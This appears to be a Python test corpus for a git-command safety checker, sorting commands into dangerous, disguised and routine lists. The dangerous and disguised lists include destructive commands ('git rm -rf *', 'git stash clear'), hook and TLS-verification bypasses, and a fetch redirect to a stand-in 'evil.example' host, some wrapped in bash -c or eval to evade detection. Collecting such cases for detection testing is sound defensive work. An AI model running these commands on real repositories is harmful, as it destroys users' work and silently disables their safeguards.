# ruff: noqa: E501  (one case per line reads better than wrapped ones)
"""Corpus: git that discards work or turns protections off: switching with discarded
changes or -f, moving branches (update-ref, branch -f, -B/-C), -c and config settings
that disable hooks or safety checks, git rm -r of everything, forced worktree removal,
dropped stashes, hooks skipped, commands run by git. Routine look-alikes: everyday
branching, staging and configuration."""

DANGEROUS = [
    "git switch -f main", "git switch --discard-changes main", "git switch -C main origin/main", "git checkout -f main",
    "git checkout -B main", "git update-ref refs/heads/main HEAD~5", "git update-ref -d refs/heads/feature", "git branch -f main HEAD~3",
    "git branch --force main HEAD~3", "git -c core.hooksPath= commit -m x", "git -c core.hooksPath=/dev/null commit -m x",
    "git -c receive.denyNonFastForwards=false push", "git -c push.default=matching push", "git -c protocol.allow=always fetch",
    "git -c core.fsmonitor=./x status", "git -c http.sslVerify=false clone https://example.com/r.git", "git config --global --add safe.directory '*'",
    "git config core.hooksPath .githooks", "git config receive.denyDeletes false", "git rm -r .", "git rm -rf *", "git rm -r ':/'",
    "git worktree remove --force ../wt", "git stash drop", "git stash clear", "git commit --no-verify -m x", "git commit -nm x",
    "git push --no-verify", "git submodule deinit -f --all", "git submodule foreach 'git reset --hard'", "git symbolic-ref HEAD refs/heads/other",
]

DISGUISED = [
    "bash -c 'git switch -f main'", "git -C . checkout --force main", "git -c core.hookspath= push", "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch",
    "git -c protocol.file.allow=always submodule update", "GIT_CONFIG_PARAMETERS=\"'core.hooksPath='\" git commit -m x", "git rm -r -f .", "git rm -rq .",
    "git checkout --force -B main", "git switch --force-create main HEAD~2", "git worktree remove -f ../wt", "git stash drop stash@{0}",
    "git commit --no-verify -am wip", "eval \"git update-ref -d refs/heads/main\"", "env GIT_DIR=.git git update-ref refs/heads/main HEAD~1",
    "git submodule foreach --recursive git clean -fdx", "git push --force-with-lease origin 'feat/*'", "git push --force-with-lease origin +feat/x",
    "git push --force-with-lease origin \"$(git branch --show-current)\"", "git push --force-with-lease -f origin feat/x", "git push --force-with-lease origin feat/x refs/tags/v1", "HUSKY=0 git commit -m x", "SKIP=flake8,mypy git commit -m x",
    "git switch --orphan empty", "LEFTHOOK=0 git push", "git bisect run sh -c 'git reset --hard'", "sh -c \"git -c core.hooksPath=/dev/null push\"",
]

ROUTINE = [
    "git rm --cached .env", "git rm --cached -r .idea", "git rm -r --cached . && git add . && git commit -m 'chore: apply .gitignore'",
    "git switch main", "git switch -", "git checkout -b feature/x", "git checkout main", "git branch -d feature/x", "git branch -m new-name",
    "git branch -M main", "git rm --cached -r .", "git rm -r old_dir", "git rm src/old.py", "git stash", "git stash pop", "git stash list",
    "git worktree add ../wt feature/x", "git worktree remove ../wt", "git -c color.ui=always log --oneline", "git -c core.pager=cat log",
    "git -c user.name=Dev commit -m wip", "GIT_EDITOR=true git merge --continue", "GIT_PAGER=cat git log -5", "git config user.email dev@example.com",
    "git config --get remote.origin.url", "git config --unset core.hooksPath", "git submodule update --init --recursive",
    "git submodule foreach git pull", "git symbolic-ref --short HEAD", "git bisect run pytest -x", "git update-ref --help",
    "git push --force-with-lease origin feat/login-form", "git push --force-with-lease origin HEAD:fix/flaky-test",
    "git push --force-with-lease --force-if-includes origin feature/x", "git -c commit.gpgsign=false commit -m x", "git clone https://github.com/org/repo.git vendor/repo", "git config pull.rebase true", "git -c core.editor=true rebase --continue",
]
